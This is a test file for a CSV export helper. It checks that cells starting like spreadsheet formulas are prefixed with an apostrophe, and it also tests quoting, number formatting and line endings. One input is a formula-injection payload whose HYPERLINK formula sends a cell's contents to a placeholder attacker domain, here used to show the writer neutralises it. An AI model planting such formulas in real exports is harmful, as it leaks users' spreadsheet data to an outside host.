import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, csvDocument, csvRow, startsLikeFormula } from '../../api/src/shared/csv.ts';

describe('the one CSV writer', () => {
  it('defuses every text a spreadsheet would run as a formula', () => {
    for (const text of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("x")'])
      expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/);
    expect(csvCell('=HYPERLINK("http://evil.example/?leak="&A2,"Ver")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Ver"")"`,
    );
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(startsLikeFormula('-CODE')).toBe(true);
    expect(startsLikeFormula('CODE-1')).toBe(false);
  });

  it('keeps numbers (negative ones too), dates and plain text as they are', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('-10.45')).toBe('-10.45');
    expect(csvCell(10.5)).toBe('10.5');
    expect(csvCell(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T03:04:05.000Z');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell('Lucía a-b')).toBe('Lucía a-b');
  });

  it('quotes separators, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvRow(['x', 1, null, 'y,z'])).toBe('x,1,,"y,z"');
  });

  it('writes a document with a BOM and CRLF line ends', () => {
    expect(csvDocument(['a', 'b'], [[1, '@x']])).toBe(`${CSV_BOM}a,b\r\n1,'@x\r\n`);
  });
});
